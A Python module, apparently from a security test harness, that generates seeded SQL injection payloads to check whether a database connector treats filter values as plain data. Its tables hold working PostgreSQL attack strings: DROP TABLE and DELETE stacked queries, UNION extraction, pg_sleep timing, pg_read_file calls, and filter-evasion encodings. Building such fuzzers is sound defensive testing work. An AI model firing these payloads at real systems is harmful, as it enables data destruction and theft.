"""A grammar of injection payloads: boundary x technique x evasion x encoding. Ours; seeded, so that a run can be repeated.

A payload is data. Sent as a filter's value it must find the rows that hold exactly this text, and do nothing else.
"""

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

SLEEP_S: Final = 1.0
"""How long a delay payload asks the server to sleep."""


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile value, and what it tries."""

    technique: str
    text: str

    @property
    def may_write(self) -> bool:
        """True when a success would leave something behind."""
        return self.technique in ("stacked", "function")


@dataclass(frozen=True, slots=True)
class Victims:
    """Names of the tables that the payloads go for."""

    table: str
    canary: str


# What closes the value, and what takes care of the rest of the statement.
BOUNDARIES: Final = (
    ("'", " -- "),
    ("'", "--"),
    ("')", " -- "),
    ("'))", " -- "),
    ("'", " /*"),
    ("'", ";--"),
    ("'", " AND '1'='1"),
    ("'", " OR 'x'='"),
    ("%'", " -- "),
    ("x'", " -- "),
    ("' || '", " || '"),
    ("''", " -- "),
    ("\\'", " -- "),
    ("\\\\'", " -- "),
    ('"', " -- "),
    ('")', " -- "),
    ("`", " -- "),
    ("]", " -- "),
    ("$$", "$$"),
    ("7", ""),
    ("7)", " -- "),
    ("2024-01-01'", " -- "),
    ("'::text", " -- "),
    ("", ""),
)
_PLAIN_BOUNDARIES: Final = BOUNDARIES[:3]

TECHNIQUES: Final = {
    "boolean": (
        " OR 1=1",
        " OR 'a'='a'",
        " OR TRUE",
        " OR 2>1",
        " OR id IS NOT NULL",
        " OR NOT FALSE",
        " AND 1=0 OR 1=1",
        " OR 1=1 LIMIT 5",
        " OR id BETWEEN 1 AND 9",
        " OR label LIKE '%'",
    ),
    "union": (
        " UNION SELECT id, note FROM {canary}",
        " UNION ALL SELECT id, label FROM {table}",
        " UNION SELECT 1, 'x'",
        " UNION SELECT NULL, NULL",
        " EXCEPT SELECT 1, 'x' UNION SELECT id, label FROM {table}",
        " UNION SELECT 1, version()",
    ),
    "stacked": (
        "; DROP TABLE {canary}",
        "; DELETE FROM {canary}",
        "; UPDATE {canary} SET note = 'taken'",
        "; INSERT INTO {canary} VALUES (99, 'taken')",
        "; COMMIT; DELETE FROM {canary}",
        "; COMMIT; BEGIN READ WRITE; DROP TABLE {canary}; COMMIT",
        "; CREATE TABLE {canary}_x (id int)",
    ),
    "delay": (
        " OR pg_sleep({sleep}) IS NULL",
        "; SELECT pg_sleep({sleep})",
        " AND 1 = (SELECT 1 FROM pg_sleep({sleep}))",
        " OR (SELECT count(*) FROM pg_sleep({sleep})) > 5",
        " UNION SELECT 1, pg_sleep({sleep})::text",
    ),
    "error": (
        " AND 1 = CAST((SELECT current_user) AS int)",
        " AND 1/0 = 1",
        " AND CAST('x' AS int) = 1",
        " AND 1 = (SELECT id FROM {table})",
    ),
    "subquery": (
        " OR EXISTS (SELECT 1 FROM {canary})",
        " OR id IN (SELECT id FROM {table})",
        " OR (SELECT count(*) FROM {canary}) > 0",
        " OR id > ANY (SELECT 0)",
        " OR (SELECT substr(note, 1, 1) FROM {canary} LIMIT 1) <> ''",
    ),
    "function": (
        " OR set_config('statement_timeout', '0', false) IS NOT NULL",
        " OR pg_read_file('/etc/hostname') IS NOT NULL",
        " OR lo_create(0) > 0",
        " OR query_to_xml('DELETE FROM {canary}', true, true, '') IS NOT NULL",
        " OR load_extension('x') IS NULL",
        " OR current_setting('is_superuser') = 'on'",
    ),
    "pattern": ("%", "_", "%%", "_%_", "[a-z]%", "^.*$", "*", "%' ESCAPE '%", "\\%", "\\_"),
    "template": (
        "{{}}",
        "{{0}}",
        "%s",
        "%(id)s",
        "%%s",
        "${{7*7}}",
        "{{{{7*7}}}}",
        ":id",
        "$1",
        "?",
        "@id",
        "\\1",
        "&id",
        "#{{1}}",
    ),
    "comment": ("/*", "*/", "--", "#", "/**/", "/*!50000 OR 1=1*/", ";", ";;", "\\", "/* */ OR /* */ 1=1"),
}
"""Bodies by technique. Doubled braces are braces."""


def _mix_case(text: str, choice: random.Random) -> str:
    return "".join(letter.upper() if choice.random() < 0.5 else letter.lower() for letter in text)  # noqa: PLR2004 - a coin


def _double_words(text: str, _choice: random.Random) -> str:
    """For filters that cut a word out once: SELSELECTECT."""
    for word in ("OR", "UNION", "SELECT", "DROP", "DELETE", "AND"):
        text = text.replace(f" {word} ", f" {word[:2]}{word}{word[2:]} ")
    return text


Change = Callable[[str, random.Random], str]
EVASIONS: Final[tuple[Change, ...]] = (
    lambda text, _choice: text,
    lambda text, _choice: text.replace(" ", "/**/"),
    lambda text, _choice: text.replace(" ", "\n"),
    lambda text, _choice: text.replace(" ", "\t"),
    lambda text, _choice: text.replace(" ", "+"),
    lambda text, _choice: text.replace(" ", "\u00a0"),
    lambda text, _choice: text.replace("=", " LIKE "),
    _mix_case,
    _double_words,
)
ENCODINGS: Final[tuple[Change, ...]] = (
    lambda text, _choice: text,
    lambda text, _choice: quote(text),
    lambda text, _choice: quote(quote(text)),
    lambda text, _choice: text.replace("'", "&#39;"),
    lambda text, _choice: text.replace("'", "\u02bc"),
    lambda text, _choice: text.replace("'", "\uff07"),
    lambda text, _choice: text.replace("'", "\u00bf'"),
    lambda text, _choice: text.replace("'", "\\u0027"),
    lambda text, _choice: text.replace("'", "''"),
    lambda text, _choice: text.replace("'", "\\'"),
    lambda text, _choice: f"\x00{text}",
    lambda text, _choice: f"{text}\u0301",
)
# NUL makes most servers refuse at once, so one payload in some dozens is enough of it.
_ENCODING_WEIGHTS: Final = (12, 2, 1, 2, 2, 2, 2, 2, 3, 3, 1, 1)
_EVASION_WEIGHTS: Final = (6, 2, 1, 1, 1, 1, 1, 2, 1)


def generate_payloads(technique: str, victims: Victims, choice: random.Random) -> Iterator[Payload]:
    """Distinct payloads of one technique without end: first the plain ones that any careless connector falls for."""
    seen: set[str] = set()
    plain = [(boundary, body) for body in TECHNIQUES[technique] for boundary in _PLAIN_BOUNDARIES]
    choice.shuffle(plain)
    for boundary, body in plain:
        text = _compose(boundary, body, victims)
        if text not in seen:
            seen.add(text)
            yield Payload(technique, text)
    while True:
        text = _compose(choice.choice(BOUNDARIES), choice.choice(TECHNIQUES[technique]), victims)
        text = choice.choices(EVASIONS, _EVASION_WEIGHTS)[0](text, choice)
        text = choice.choices(ENCODINGS, _ENCODING_WEIGHTS)[0](text, choice)
        if text in seen:
            text += f" {choice.randrange(10**6)}"
        seen.add(text)
        yield Payload(technique, text)


def _compose(boundary: tuple[str, str], body: str, victims: Victims) -> str:
    start, end = boundary
    return start + body.format(table=victims.table, canary=victims.canary, sleep=SLEEP_S) + end
